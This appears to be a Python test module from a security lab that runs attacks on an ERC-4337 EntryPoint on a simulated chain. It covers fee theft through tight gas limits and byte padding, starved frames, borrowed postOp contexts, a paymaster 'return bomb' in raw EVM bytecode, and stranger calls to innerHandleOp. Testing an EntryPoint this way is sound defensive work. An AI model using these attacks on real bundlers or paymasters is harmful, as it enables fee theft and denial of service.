"""Attacks on the frames of the EntryPoint: what a bundler, a paymaster or a stranger does around an operation.

Most were found by review in an EntryPoint of this lab that was built for gas; the published one refuses them all.
"""

from __future__ import annotations

from sessionlab.attacks.attack import attack
from sessionlab.attacks.attack_lab import (
    BUNDLE_GAS,
    BUNDLER,
    ETHER,
    HOSTILE,
    NOW,
    STRANGER,
    AttackLab,
    address,
    count,
    deposit_of,
)
from sessionlab.attacks.bundles import ACCESS, PING, least, ping, trying
from sessionlab.attacks.gains import counts, root
from sessionlab.attacks.operations import act, arm, deferred_operation, install, send, transact
from sessionlab.core.base.abi_words import word
from sessionlab.core.base.addresses import ZERO_ADDRESS
from sessionlab.core.contracts.artifacts import artifact
from sessionlab.core.erc4337 import wallet_encoding as account
from sessionlab.core.erc4337.call import Call
from sessionlab.core.erc4337.included import BundleReverted, Included, read_bundle
from sessionlab.core.erc4337.user_operation import ENTRY_POINT, UserOperation, handle_ops, pack
from sessionlab.core.permissions import AccountFunctions, Root, rows
from sessionlab.core.permissions.functions import VALIDATE_USER_OP

FOUND = "found by review"
BUNDLES = "a bundler"
#: EVM code of paymasters: pays, with a context of 1 byte; pays, without one, and notes a postOp in slot 0; pays, with a
#: context, and reverts with 0 or 480,000 bytes in postOp.
TELLS = bytes.fromhex("60406000526020604052600160605260806000f3")
NOTES = bytes.fromhex("60003560e01c637c627b2114601957604060005260606000f35b600160005500")


def refuses_after(size: int) -> bytes:
    """Return code of a paymaster that pays, with a context, and whose postOp reverts with so many zero bytes."""
    head = bytes.fromhex("60003560e01c637c627b21146024") + b"\x57" + TELLS
    return head.ljust(0x24, b"\0") + bytes.fromhex("5b62") + size.to_bytes(3, "big") + bytes.fromhex("6000fd")


def paymaster(lab: AttackLab, name: str, code: bytes) -> str:
    """Put a paymaster's code at an address of its own, with a deposit of 10 ETH."""
    where = address(name)
    lab.chain.set_code(where, code)
    transact(lab, BUNDLER, ENTRY_POINT, artifact("EntryPoint").encode("depositTo", where), 10 * ETHER)
    return where


def limits(op: UserOperation) -> int:
    """Return all gas limits of an operation, added up."""
    own = op.verification_gas_limit + op.call_gas_limit + op.pre_verification_gas
    return own + op.paymaster_verification_gas_limit + op.paymaster_post_op_gas_limit


def included(lab: AttackLab, data: bytes, gas: int = BUNDLE_GAS, value: int = 0) -> list[Included]:
    """Send a bundle as it is; an empty list if the EntryPoint refuses it."""
    receipt = lab.chain.transact(BUNDLER.private, ENTRY_POINT, data, gas=gas, value=value)
    try:
        return read_bundle(receipt)
    except BundleReverted as refused:
        lab.stopped.append(("validation", refused.revert.innermost.reason))
        return []


@attack("frames", holds=BUNDLES, gain="fees of operations that pass one by one", source=FOUND)
def bundle_of_twelve(lab: AttackLab) -> str:
    """Operations whose gas limits fit them to a hundred gas, twelve and forty in a bundle: none may fail and pay."""
    install(lab, [ACCESS])
    tight = least(lab, lambda gas: trying(lab, lambda: send(lab, ping(lab, call_gas_limit=gas))).phase == "ok")
    for size in (12, 40):
        ops = [ping(lab, call_gas_limit=tight + 100, nonce_key=key) for key in range(size)]
        failed = sum(not item.success for item in trying(lab, lambda ops=ops: send(lab, *ops)).included)  # type: ignore[misc]
        if failed:
            return f"the fees of {failed} operations of {size}"
    return ""


@attack("frames", holds=BUNDLES, gain="fees for bytes that nobody signed", source=FOUND)
def padding(lab: AttackLab) -> str:
    """Bytes behind the bundle, and a gap within the operation: neither fails it nor makes it dearer."""
    install(lab, [ACCESS])
    op = ping(lab)
    data = handle_ops([op], BUNDLER.address)
    snapshot = lab.chain.snapshot()
    fair = included(lab, data)[0]
    at = data.index(pack(op)[:32])
    field = at + int.from_bytes(data[at + 256 : at + 288], "big")
    gap = 2_048
    moved = data[: at + 256] + word(field - at + gap) + data[at + 288 : field] + b"\1" * gap + data[field:]
    for bent in (data + b"\1" * 60_000, moved):
        lab.chain.revert(snapshot)
        snapshot = lab.chain.snapshot()
        for item in included(lab, bent):
            if not item.success:
                return f"{item.gas_cost:,} wei of fees for an operation that failed"
            if item.gas_used > fair.gas_used + 1_000:
                return f"{item.gas_used - fair.gas_used:,} gas for bytes that nobody signed"
    lab.chain.revert(snapshot)
    return ""


@attack("frames", holds=BUNDLES, gain="the fee of an operation that was not run", source=FOUND)
def starved_frame(lab: AttackLab) -> str:
    """A paymaster wants to be told, and the bundle gets so little gas that the operation's frame runs dry."""
    install(lab, [ACCESS])
    told = paymaster(lab, "a paymaster that is told", TELLS)
    op = ping(lab, paymaster=told, paymaster_verification_gas_limit=100_000, paymaster_post_op_gas_limit=50_000)
    data = handle_ops([op], BUNDLER.address)
    for gas in range(150_000, 1_500_000, 10_000):
        snapshot = lab.chain.snapshot()
        done = included(lab, data, gas)
        if done and not done[0].success:
            return f"{done[0].gas_cost:,} wei for an operation that did not run, in a bundle with {gas:,} gas"
        if done:
            break
        lab.chain.revert(snapshot)
    return ""


@attack("frames", holds=BUNDLES, gain="a postOp with what another paymaster was to be told", source=FOUND)
def borrowed_context(lab: AttackLab) -> str:
    """Two bundles in one transaction: the second's paymaster asked for no postOp, and the first's had a context."""
    install(lab, [ACCESS])
    asked = {"paymaster_verification_gas_limit": 100_000, "paymaster_post_op_gas_limit": 50_000}
    told = ping(lab, paymaster=paymaster(lab, "a paymaster that is told", TELLS), **asked)
    silent = paymaster(lab, "a paymaster that is not told", NOTES)
    other = ping(lab, paymaster=silent, nonce_key=1, **asked)
    arm(lab, *(Call(ENTRY_POINT, data=handle_ops([op], BUNDLER.address)) for op in (told, other)))
    transact(lab, BUNDLER, HOSTILE, b"\1\2\3\4", gas=BUNDLE_GAS)
    assert count(lab) == 2, "both bundles run"
    return "a postOp that its paymaster had not asked for" if lab.chain.storage(silent, 0) else ""


@attack("frames", holds="a paymaster", gain="more gas than all the limits of an operation", source=FOUND)
def return_bomb(lab: AttackLab) -> str:
    """A postOp reverts with 480,000 bytes: anyone who copies them pays for them."""
    install(lab, [ACCESS])
    bomb = paymaster(lab, "a paymaster with a bomb", refuses_after(480_000))
    op = ping(lab, paymaster=bomb, paymaster_verification_gas_limit=100_000, paymaster_post_op_gas_limit=600_000)
    outcome = send(lab, op)
    used = outcome.included[0].gas_used if outcome.included else 0
    return f"{used:,} gas, where the limits are {limits(op):,}" if used > limits(op) else counts(lab)


@attack("frames", holds="the session key", gain="calls that a paymaster's postOp refuses", source="ERC-4337, postOp")
def post_op_undoes(lab: AttackLab) -> str:
    """The paymaster reverts when it is told what the operation did: then the operation is undone."""
    install(lab, [ACCESS])
    stern = paymaster(lab, "a paymaster that refuses", refuses_after(0))
    send(lab, ping(lab, paymaster=stern, paymaster_verification_gas_limit=100_000, paymaster_post_op_gas_limit=50_000))
    return counts(lab)


@attack("frames", holds="nothing", gain="a deposit that nobody paid in", source="ERC-4337, AA92")
def frame_of_a_stranger(lab: AttackLab) -> str:
    """innerHandleOp, called by anybody, with a prefund that nobody took, to be given back."""
    op = (STRANGER.address, 0, 0, 0, 0, 0, 0, ZERO_ADDRESS, 0, 0)
    data = artifact("EntryPoint").encode("innerHandleOp", b"", (op, bytes(32), 10 * ETHER, 0, 0), b"")
    transact(lab, BUNDLER, ENTRY_POINT, data)
    got = deposit_of(lab, STRANGER.address)
    return f"{got:,} wei of deposit" if got else ""


@attack("frames", holds="nothing", gain="ETH that nobody can get back", source=FOUND)
def ether_with_handle_ops(lab: AttackLab) -> str:
    """A bundle with ETH sent along, by mistake or by somebody's advice: the EntryPoint would keep it."""
    install(lab, [ACCESS])
    before = lab.chain.balance(ENTRY_POINT)
    included(lab, handle_ops([ping(lab)], BUNDLER.address), value=ETHER)
    more = lab.chain.balance(ENTRY_POINT) - before
    return f"{more:,} wei is nobody's" if more > 0 else ""


@attack("frames", holds="the session key", gain="a session whose grant is over", source=FOUND)
def late_install(lab: AttackLab) -> str:
    """validateUserOp as an account function installs what the owner signed: past its deadline, or its nonce used."""
    install(lab, [AccountFunctions(functions=["0x" + VALIDATE_USER_OP.hex()])])
    late = deferred_operation(lab, rows([Root()]), PING, entity=9, is_global=True, deadline=NOW - 1)
    used = deferred_operation(lab, rows([Root()]), PING, entity=9, is_global=True)
    _as_a_function(lab, late)
    if root(lab):
        return root(lab)
    key = account.nonce_key_of(9, is_global=True, deferred=True)
    skip = artifact("EntryPoint").encode("incrementNonce", key)
    act(lab, [Call(ENTRY_POINT, data=skip)], entity=0)
    _as_a_function(lab, used)
    return root(lab)


def _as_a_function(lab: AttackLab, op: UserOperation) -> None:
    act(lab, VALIDATE_USER_OP + word(96) + bytes(32) + word(0) + pack(op), wrapped=False)
